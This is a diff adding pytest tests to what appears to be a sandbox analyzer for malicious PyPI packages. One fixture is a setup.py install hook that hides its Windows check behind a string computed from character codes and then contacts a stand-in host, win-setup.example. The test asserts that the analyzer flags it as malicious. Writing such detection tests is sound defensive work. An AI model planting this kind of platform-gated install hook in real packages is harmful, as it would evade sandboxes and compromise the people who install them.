@@ -183,3 +183,26 @@ def test_installed_module_dying_at_windows_imports_is_imported_again_with_standi
     assert any(e["hostname"] == "nt-only.example" for e in _http(imp))
     v = docs["report"]["verdict"]
     assert v["label"] == "malicious" and "DYN-BAIT-READ" in v["rules_fired"]
+
+
+def test_setup_py_payload_waiting_for_windows_runs_after_a_working_install(tmp_path, results):
+    # pip installs it on Linux and nothing happens; answered as Windows, its setup.py sends
+    top = ("import sys, urllib.request\n"
+           "if sys.platform == ''.join(map(chr, [119, 105, 110, 51, 50])):\n"  # 'win32', computed
+           "    try:\n        urllib.request.urlopen('http://win-setup.example/i', timeout=5)\n"
+           "    except Exception:\n        pass\n")
+    docs = _analyze(pypi_sdist(tmp_path, "wingated", "1.0.0", _setup("wingated", top)), results)
+    install = docs["report"]["dynamic"]["phases"]["install"]
+    assert "fallback" not in install
+    ws = install["windows_setup"]
+    assert ws["kind"] == "legacy-setup" and ws["windows_checks"] >= 1
+    assert any(e["hostname"] == "win-setup.example" for e in _http(install))
+    assert docs["report"]["verdict"]["label"] == "malicious"
+
+
+def test_benign_setup_py_with_a_windows_branch_stays_benign(tmp_path, results):
+    top = ("import os, sys\nrequires = ['pywin32'] if sys.platform == 'win32' else []\n"
+           "if os.name == 'nt':\n    import subprocess\n    print('windows build')\n")
+    docs = _analyze(pypi_sdist(tmp_path, "winbranch", "1.0.0", _setup("winbranch", top)), results)
+    v = docs["report"]["verdict"]
+    assert v["label"] == "benign", v["findings"]
